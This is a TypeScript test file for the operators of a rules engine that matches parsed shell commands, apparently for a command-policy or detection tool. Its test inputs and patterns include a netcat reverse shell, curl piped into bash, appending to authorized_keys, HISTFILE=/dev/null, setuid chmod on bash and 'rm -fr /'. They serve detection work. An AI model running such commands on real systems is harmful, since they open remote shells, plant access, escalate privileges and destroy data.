import { describe, expect, it } from 'vitest';
import { parseCommandLine } from '../../shell/parse-command-line';
import { prng } from '../../../../bench/support/generate-rules';
import { checkRegex } from './check-regex';
import type { CompileContext, Predicate } from './operator';
import { compileOperator, OPERATORS } from './registry';

const ctx: CompileContext = {
  lists: new Map([
    ['shells', new Set(['sh', 'bash'])],
    ['downloaders', new Set(['curl', 'wget'])],
  ]),
  checkRegex,
};

function op(name: string, value: unknown): Predicate {
  const result = compileOperator(name, value, ctx);
  if (!result.ok) throw new Error(JSON.stringify(result.problems));
  return result.test;
}

function problems(name: string, value: unknown): string[] {
  const result = compileOperator(name, value, ctx);
  return result.ok ? [] : result.problems.map((p) => `${p.pointer}: ${p.message}`);
}

describe('built-in operators (json-rules-engine semantics)', () => {
  it('equal / notEqual / in / notIn', () => {
    expect(op('equal', 'rm')('rm')).toBe(true);
    expect(op('notEqual', 'rm')(undefined)).toBe(true);
    expect(op('in', ['a', 'b'])('b')).toBe(true);
    expect(op('notIn', ['a', 'b'])('c')).toBe(true);
    expect(problems('in', 'ab')).toEqual([': in needs an array value']);
  });

  it('contains / doesNotContain need an array fact', () => {
    expect(op('contains', 'rm')(['ls', 'rm'])).toBe(true);
    expect(op('contains', 'rm')('rm -rf')).toBe(false);
    expect(op('doesNotContain', 'rm')(['ls'])).toBe(true);
    expect(op('doesNotContain', 'rm')(undefined)).toBe(false);
  });

  it('numeric comparisons need a numeric fact', () => {
    expect(op('greaterThan', 0)(1)).toBe(true);
    expect(op('lessThanInclusive', 5)('5')).toBe(true);
    expect(op('lessThan', 5)(undefined)).toBe(false);
    expect(op('greaterThanInclusive', 1)(1)).toBe(true);
  });
});

describe('regex', () => {
  it('matches strings and any string of an array, with flags', () => {
    expect(op('regex', '^rm\\b')('rm -rf /')).toBe(true);
    expect(op('regex', { pattern: '^RM', flags: 'i' })('rm')).toBe(true);
    expect(op('regex', 'nc')(['ls', 'ncat'])).toBe(true);
    expect(op('regex', 'x')(42)).toBe(false);
  });

  it('rejects catastrophic backtracking, bad syntax and stateful flags', () => {
    expect(problems('regex', '(a+)+$')[0]).toMatch(/catastrophic/);
    expect(problems('regex', { pattern: '(x*)*y' })[0]).toMatch(/^\/pattern: .*catastrophic/);
    expect(problems('regex', '([a-z')[0]).toMatch(/invalid regex/);
    expect(problems('regex', { pattern: 'a', flags: 'g' })[0]).toMatch(/flags/);
  });
});

describe('glob', () => {
  it('matches paths, * not crossing /', () => {
    expect(op('glob', '/etc/*')('/etc/shadow')).toBe(true);
    expect(op('glob', '/etc/*')('/etc/ssh/sshd_config')).toBe(false);
    expect(op('glob', ['/root/**', '**/.ssh/*'])('/home/bob/.ssh/authorized_keys')).toBe(true);
  });
});

describe('startsWithI / endsWithI / containsI', () => {
  it('compare case-insensitively against one or several needles', () => {
    expect(op('startsWithI', '/TMP/')('/tmp/x')).toBe(true);
    expect(op('endsWithI', ['.SH', '.py'])('run.sh')).toBe(true);
    expect(op('containsI', 'Base64')('echo x | BASE64 -d')).toBe(true);
    expect(op('containsI', 'zzz')('abc')).toBe(false);
  });

  it('give the answers of testing every needle when the needle list is indexed', () => {
    const needles = ['/TMP/', '/dev/shm/', 'x', 'ÉTÉ', 'nohup /tmp/', '.sh', 'İ', 'abc', 'bc'];
    const haystacks = [
      '/tmp/a',
      '/DEV/SHM/b',
      '',
      'été',
      'run.SH',
      'i̇',
      'ABC',
      'zbc',
      'nohup /TMP/x',
    ];
    for (const haystack of haystacks) {
      const s = haystack.toLowerCase();
      const lowered = needles.map((n) => n.toLowerCase());
      expect([haystack, op('startsWithI', needles)(haystack)]).toEqual([
        haystack,
        lowered.some((n) => s.startsWith(n)),
      ]);
      expect([haystack, op('endsWithI', needles)(haystack)]).toEqual([
        haystack,
        lowered.some((n) => s.endsWith(n)),
      ]);
      expect([haystack, op('containsI', needles)(haystack)]).toEqual([
        haystack,
        lowered.some((n) => s.includes(n)),
      ]);
    }
    expect(op('containsI', ['a', 'b', 'c', 'd', ''])('zzz')).toBe(true);
  });
});

describe('containsWord', () => {
  it('needs word boundaries on both sides', () => {
    expect(op('containsWord', 'nc')('nc -e /bin/sh 1.2.3.4')).toBe(true);
    expect(op('containsWord', 'nc')('/usr/bin/nc')).toBe(true);
    expect(op('containsWord', 'nc')('rsync -a x y')).toBe(false);
    expect(op('containsWord', ['nc', 'ncat'])('x ncat y')).toBe(true);
  });
});

describe('inList', () => {
  it('looks up named lists and rejects unknown names', () => {
    expect(op('inList', 'shells')(['curl', 'bash'])).toBe(true);
    expect(op('inList', 'shells')('zsh')).toBe(false);
    expect(problems('inList', 'nope')).toEqual([': unknown list "nope"']);
  });
});

describe('cidr', () => {
  it('handles IPv4, IPv6, mapped addresses and garbage', () => {
    const test = op('cidr', ['10.0.0.0/8', 'fd00::/8', '192.168.1.7']);
    expect(test('10.1.2.3')).toBe(true);
    expect(test('::ffff:10.1.2.3')).toBe(true);
    expect(test('fd12::1')).toBe(true);
    expect(test('192.168.1.7')).toBe(true);
    expect(test('192.168.1.8')).toBe(false);
    expect(test('not an ip')).toBe(false);
    expect(problems('cidr', ['10.0.0.0/33'])).toEqual(['/0: invalid CIDR "10.0.0.0/33"']);
  });
});

describe('hasFlag', () => {
  const rf = op('hasFlag', ['r|R|recursive', 'f|force']);
  it.each([
    'rm -rf x',
    'rm -fr x',
    'rm -r -f x',
    'rm --recursive --force x',
    'rm -Rf x',
    'rm -R --force x',
  ])('finds r and f in %s', (line) => {
    expect(rf(parseCommandLine(line))).toBe(true);
    expect(rf(parseCommandLine(line)[0])).toBe(true);
    expect(rf(line.split(' '))).toBe(true);
    expect(rf(line)).toBe(true);
  });
  it('needs every item', () => {
    expect(rf(parseCommandLine('rm -r x'))).toBe(false);
    expect(rf(parseCommandLine('rm -- -rf'))).toBe(false);
    expect(problems('hasFlag', ['r|'])).toEqual([]);
    expect(problems('hasFlag', ['|'])[0]).toMatch(/empty flag/);
  });
});

describe('timeOfDay / dayOfWeek', () => {
  it('uses the time zone and wraps midnight', () => {
    const night = op('timeOfDay', { from: '22:00', to: '06:00', timeZone: 'Europe/Berlin' });
    expect(night('2026-01-15T22:30:00Z')).toBe(true); // 23:30 in Berlin
    expect(night('2026-01-15T12:00:00Z')).toBe(false);
    expect(night('garbage')).toBe(false);
    const office = op('timeOfDay', { from: '09:00', to: '17:00' });
    expect(office(Date.parse('2026-01-15T09:00:00Z'))).toBe(true);
    expect(office('2026-01-15T17:00:00Z')).toBe(false);
    expect(problems('timeOfDay', { from: '9:00', to: '17:00' })).toEqual([
      '/from: from must be "HH:MM" (24-hour)',
    ]);
    expect(
      problems('timeOfDay', { from: '09:00', to: '17:00', timeZone: 'Mars/Olympus' })[0],
    ).toMatch(/^\/timeZone/);
  });

  it('finds the local weekday', () => {
    const weekend = op('dayOfWeek', { days: ['sat', 'sun'], timeZone: 'Pacific/Auckland' });
    expect(weekend('2026-01-16T12:00:00Z')).toBe(true); // Sat 01:00 in Auckland
    expect(weekend('2026-01-15T12:00:00Z')).toBe(false);
    expect(problems('dayOfWeek', { days: ['funday'] })[0]).toMatch(/^\/days\/0/);
  });

  it('answers each event by its own timestamp when rules share a zone', () => {
    const night = op('timeOfDay', { from: '22:00', to: '06:00', timeZone: 'Europe/Berlin' });
    const weekend = op('dayOfWeek', { days: ['sat', 'sun'], timeZone: 'Europe/Berlin' });
    for (let i = 0; i < 3; i++) {
      expect(night('2026-01-17T22:30:00Z')).toBe(true); // Sat 23:30 in Berlin
      expect(weekend('2026-01-17T22:30:00Z')).toBe(true);
      expect(night('2026-01-19T12:00:00Z')).toBe(false); // Mon 13:00
      expect(weekend('2026-01-19T12:00:00Z')).toBe(false);
      expect(weekend(Date.parse('2026-01-17T22:30:00Z'))).toBe(true);
      expect(weekend(undefined)).toBe(false);
    }
  });

  it('finds the exact local minute and day across offset changes and odd offsets', () => {
    // The clock derives times inside an hour from its start (time-window.operators.ts);
    // each sample is checked against Intl formatting it on its own. The zones have DST
    // (Berlin, New York, Santiago), half and quarter hours (St John's, Kathmandu), a
    // half-hour DST shift (Lord Howe), a skipped day (Apia, 2011-12-30) and a local mean
    // time with seconds (Amsterdam before 1937).
    const zones = [
      'Europe/Berlin',
      'America/New_York',
      'America/Santiago',
      'America/St_Johns',
      'Asia/Kathmandu',
      'Australia/Lord_Howe',
      'Pacific/Apia',
      'Europe/Amsterdam',
    ];
    const windows = [
      [Date.UTC(1935, 2, 1), Date.UTC(1938, 0, 1)],
      [Date.UTC(2011, 11, 25), Date.UTC(2012, 0, 5)],
      [Date.UTC(2026, 0, 1), Date.UTC(2027, 0, 1)],
    ] as const;
    const random = prng(20261126);
    const hhmm = (minutes: number): string =>
      `${String(Math.floor(minutes / 60)).padStart(2, '0')}:${String(minutes % 60).padStart(2, '0')}`;
    let checked = 0;
    let changes = 0;
    for (const timeZone of zones) {
      const expected = new Intl.DateTimeFormat('en-US', {
        timeZone,
        hourCycle: 'h23',
        hour: '2-digit',
        minute: '2-digit',
        weekday: 'short',
      });
      const localOf = (ms: number): { minutes: number; day: string } => {
        const parts = Object.fromEntries(expected.formatToParts(ms).map((p) => [p.type, p.value]));
        return {
          minutes: Number(parts['hour']) * 60 + Number(parts['minute']),
          day: parts['weekday']!.toLowerCase().slice(0, 3),
        };
      };
      const check = (ms: number): void => {
        const { minutes, day } = localOf(ms);
        const timestamp = new Date(ms).toISOString();
        const window = (start: number): Predicate =>
          op('timeOfDay', { from: hhmm(start % 1440), to: hhmm((start + 1) % 1440), timeZone });
        expect(window(minutes)(timestamp), `${timeZone} ${timestamp}`).toBe(true);
        expect(window(minutes + 1)(timestamp), `${timeZone} ${timestamp}`).toBe(false);
        expect(op('dayOfWeek', { days: [day], timeZone })(ms), `${timeZone} ${timestamp}`).toBe(
          true,
        );
        checked += 1;
      };
      for (const [from, to] of windows) {
        for (let i = 0; i < 300; i++) check(Math.floor(from + random() * (to - from)));
        // Every minute of the UTC hours whose local end is not 59 minutes after their
        // start (an offset change, or an offset with seconds), the first 24 of each window.
        const DAYS = ['sun', 'mon', 'tue', 'wed', 'thu', 'fri', 'sat'];
        const ofWeek = (ms: number): number => {
          const { minutes, day } = localOf(ms);
          return DAYS.indexOf(day) * 1440 + minutes;
        };
        let sampled = 0;
        for (let hour = from; hour < to && sampled < 24; hour += 3_600_000) {
          if ((ofWeek(hour + 3_599_999) - ofWeek(hour) + 10_080) % 10_080 === 59) continue;
          sampled += 1;
          for (let minute = 0; minute < 60; minute++) check(hour + minute * 60_000 + 30_000);
        }
        changes += sampled;
      }
    }
    expect(changes).toBeGreaterThan(10);
    expect(checked).toBeGreaterThan(zones.length * windows.length * 300);
  });
});

describe('exists', () => {
  it('tests presence', () => {
    expect(op('exists', true)('x')).toBe(true);
    expect(op('exists', true)(null)).toBe(false);
    expect(op('exists', false)(undefined)).toBe(true);
  });
});

describe('anyCommand', () => {
  const matches = (spec: unknown, line: string): boolean =>
    op('anyCommand', spec)(parseCommandLine(line));

  it('matches program, flags and arguments of any sub-command', () => {
    const spec = { program: 'rm', hasFlags: ['r|recursive', 'f|force'], anyArg: { regex: '^/$' } };
    expect(matches(spec, 'ls; sudo /bin/rm -fr /')).toBe(true);
    expect(matches(spec, 'rm -rf ./build')).toBe(false);
    expect(matches({ program: ['nc', 'ncat'], hasAnyFlag: ['e', 'c'] }, 'nc -e /bin/sh h 1')).toBe(
      true,
    );
    expect(matches({ args: { regex: '-o /tmp/' } }, 'curl -o /tmp/x http://h')).toBe(true);
    expect(matches({ raw: { containsI: 'BASE64' } }, 'base64 -d f')).toBe(true);
  });

  it('matches redirects, assignments, wrappers and elevation', () => {
    expect(
      matches({ redirect: { glob: '**/authorized_keys' } }, 'echo k >> /root/.ssh/authorized_keys'),
    ).toBe(true);
    expect(matches({ assignment: { startsWithI: 'HISTFILE=' } }, 'HISTFILE=/dev/null bash')).toBe(
      true,
    );
    expect(matches({ wrappedBy: 'nohup' }, 'nohup x &')).toBe(true);
    expect(matches({ program: 'rm', elevated: true }, 'sudo rm x')).toBe(true);
    expect(matches({ program: 'rm', elevated: true }, 'rm x')).toBe(false);
  });

  it('relates commands of one pipeline with pipedFrom / pipesTo', () => {
    const spec = {
      program: { inList: 'shells' },
      pipedFrom: { program: { inList: 'downloaders' } },
    };
    expect(matches(spec, 'curl -s x | tee f | sudo bash')).toBe(true);
    expect(matches(spec, 'curl -s x > f; bash f')).toBe(false);
    expect(matches(spec, 'bash | curl x')).toBe(false);
    expect(matches({ program: 'curl', pipesTo: { program: 'sh' } }, 'curl x | sh')).toBe(true);
  });

  it('negates with not', () => {
    expect(
      matches({ program: 'rm', not: { anyArg: { startsWithI: '/tmp/' } } }, 'rm -rf /tmp/x'),
    ).toBe(false);
    expect(
      matches({ program: 'rm', not: { anyArg: { startsWithI: '/tmp/' } } }, 'rm -rf /srv'),
    ).toBe(true);
  });

  it('reports every bad key with its pointer', () => {
    expect(
      problems('anyCommand', {
        program: { regex: '(a+)+$' },
        bogus: 1,
        pipedFrom: { hasFlags: 3 },
      }),
    ).toEqual([
      expect.stringMatching(/^\/program\/regex: .*catastrophic/),
      expect.stringMatching(/^\/bogus: unknown command spec key/),
      expect.stringMatching(/^\/pipedFrom\/hasFlags: /),
    ]);
  });

  it('compiles and matches the examples of docs/rules.md', () => {
    expect(
      matches({ program: ['nc', 'ncat', 'netcat'], hasAnyFlag: ['e', 'c'] }, 'ncat -c sh h 1'),
    ).toBe(true);
    expect(
      matches(
        { redirect: { glob: '**/.ssh/authorized_keys' } },
        'cat k >> /home/a/.ssh/authorized_keys',
      ),
    ).toBe(true);
    expect(matches({ assignment: { regex: '^HISTFILE=(/dev/null)?$' } }, 'HISTFILE= bash')).toBe(
      true,
    );
    const chmod = { program: 'chmod', anyArg: { regex: '^[0-7]?[4-7][0-7]{2}$|^u\\+s$' } };
    expect(matches(chmod, 'chmod u+s /bin/bash')).toBe(true);
    expect(matches(chmod, 'chmod 4755 /tmp/x')).toBe(true);
    expect(matches(chmod, 'chmod 644 f')).toBe(true);
    expect(matches(chmod, 'chmod 0311 f')).toBe(false);
    const rm = { program: 'rm', hasFlags: ['r|R|recursive'], not: { anyArg: { glob: '/tmp/**' } } };
    expect(matches(rm, 'rm -r /tmp/a/b')).toBe(false);
    expect(matches(rm, 'rm -r /srv/a')).toBe(true);
  });

  it('is false on a fact that is not a command list', () => {
    expect(op('anyCommand', { program: 'rm' })('rm')).toBe(false);
  });
});

describe('not: decorator and registry', () => {
  it('negates any operator', () => {
    expect(op('not:regex', '^rm')('ls')).toBe(true);
    expect(op('not:contains', 'x')('not an array')).toBe(true);
    expect(problems('frobnicate', 1)).toEqual([': unknown operator "frobnicate"']);
  });

  it('never throws from a predicate', () => {
    for (const [name] of OPERATORS) {
      const result = compileOperator(name, name === 'inList' ? 'shells' : 'x', ctx);
      if (!result.ok) continue;
      for (const fact of [
        undefined,
        null,
        1,
        'x',
        [],
        {},
        [null],
        { flags: 3 },
        [{ program: 1 }],
      ]) {
        expect(() => result.test(fact)).not.toThrow();
      }
    }
  });
});
